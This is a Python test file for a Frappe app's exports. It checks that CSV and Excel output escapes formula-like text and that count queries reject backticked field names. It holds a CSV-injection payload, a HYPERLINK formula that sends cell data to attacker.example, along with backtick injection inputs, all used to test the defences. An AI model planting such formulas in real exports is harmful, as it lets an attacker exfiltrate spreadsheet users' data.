# Copyright (c) 2026, cis_app contributors and contributors
# For license information, please see license.txt
"""The desk's exports through the app (cis_app.cis_case_management.disclosures, cis_app.overrides.export_cells): formula-like text
is escaped in CSV and Excel, a bad report name or format is a clear 4xx, and counts refuse a
backticked field name on any DocType (cis_app.overrides.generic_methods.get_count)."""

import io

import frappe
import openpyxl
from frappe.tests.utils import FrappeTestCase

from cis_app.cis_case_management import disclosures

from cis_app.overrides import generic_methods as overrides
from cis_app.permissions.field_guard import FilterFieldNameError
from cis_app.tests.factories import TwoSites

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'


class TestExportCells(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		cls.net = TwoSites.build()
		frappe.db.delete("Network Outcome", {"affiliate": "_test-formula"})
		for level, site in (("Affiliate", None), ("Site", "-1 School")):
			frappe.get_doc(
				{
					"doctype": "Network Outcome",
					"school_year": "2020-2021",
					"affiliate": "_test-formula",
					"affiliate_name": FORMULA,
					"level": level,
					"site": site,
					"metric": "cohort",
					"numerator": 12,
				}
			).insert(ignore_permissions=True)

	def tearDown(self):
		frappe.set_user("Administrator")
		frappe.local.form_dict = frappe._dict()
		for key in ("filecontent", "filename", "type"):
			frappe.response.pop(key, None)

	def export(self, method, user: str, **form) -> bytes:
		frappe.set_user(user)
		frappe.local.form_dict = frappe._dict(form)
		method()
		return frappe.response["filecontent"]

	def report_builder(self, file_format_type: str) -> bytes:
		return self.export(
			disclosures.export_report_builder,
			self.net.admin,
			doctype="Network Outcome",
			fields='["`tabNetwork Outcome`.`affiliate_name`", "`tabNetwork Outcome`.`site`", "`tabNetwork Outcome`.`numerator`"]',
			filters='{"affiliate": "_test-formula"}',
			file_format_type=file_format_type,
			title="Network Outcome",
		)

	def test_formula_like_text_is_escaped_in_the_report_builders_csv_and_excel(self):
		content = self.report_builder("CSV").decode()
		self.assertIn("'" + FORMULA.replace('"', '""'), content)
		self.assertIn("'-1 School", content)
		self.assertNotIn(',"' + FORMULA.replace('"', '""'), content)
		sheet = openpyxl.load_workbook(io.BytesIO(self.report_builder("Excel"))).active
		cells = [cell.value for row in sheet.iter_rows() for cell in row]
		self.assertIn("'" + FORMULA, cells)
		self.assertNotIn(FORMULA, cells)
		self.assertEqual(
			[c for row in sheet.iter_rows() for c in row if c.data_type == "f"], []
		)  # no formula anywhere
		self.assertIn(12, cells)  # numbers stay numbers

	def test_frappes_own_exports_elsewhere_are_left_as_they_are(self):
		from frappe.desk.utils import get_csv_bytes

		self.report_builder("CSV")  # the wrappers are installed now
		self.assertEqual(
			get_csv_bytes([[FORMULA]], {}).decode().strip(), '"' + FORMULA.replace('"', '""') + '"'
		)

	def test_a_query_report_export_without_a_report_or_as_pdf_is_a_clear_4xx(self):
		for form, error in (
			({"file_format_type": "CSV"}, frappe.ValidationError),
			({"report_name": "No Such Report", "file_format_type": "CSV"}, frappe.DoesNotExistError),
			({"report_name": "CIS Outcomes", "file_format_type": "PDF"}, frappe.ValidationError),
			({"report_name": "CIS Outcomes"}, frappe.ValidationError),
		):
			with self.subTest(form=form), self.assertRaises(error):
				self.export(disclosures.export_query_report, self.net.evaluator, filters="{}", **form)
		with self.assertRaises(frappe.ValidationError):
			self.export(
				disclosures.export_report_builder,
				self.net.admin,
				doctype="Network Outcome",
				fields='["name"]',
				file_format_type="PDF",
			)

	def test_a_backticked_field_in_a_count_is_a_clear_417_on_any_doctype(self):
		for user in (self.net.coordinator_a, "Administrator"):
			for doctype, filters in (
				("ToDo", {"`name`": "x"}),
				("ToDo", [["ToDo", "`name`", "=", "x"]]),
				("ToDo", '[["`tabToDo`.`name`", "=", "x"]]'),
				("Student", {"na`me": "x"}),
			):
				frappe.set_user(user)
				with self.subTest(user=user, doctype=doctype, filters=filters):
					with self.assertRaises(FilterFieldNameError):
						overrides.get_count(doctype, filters)
		frappe.set_user(self.net.coordinator_a)
		self.assertEqual(overrides.get_count("ToDo", {"name": "no such todo"}), 0)
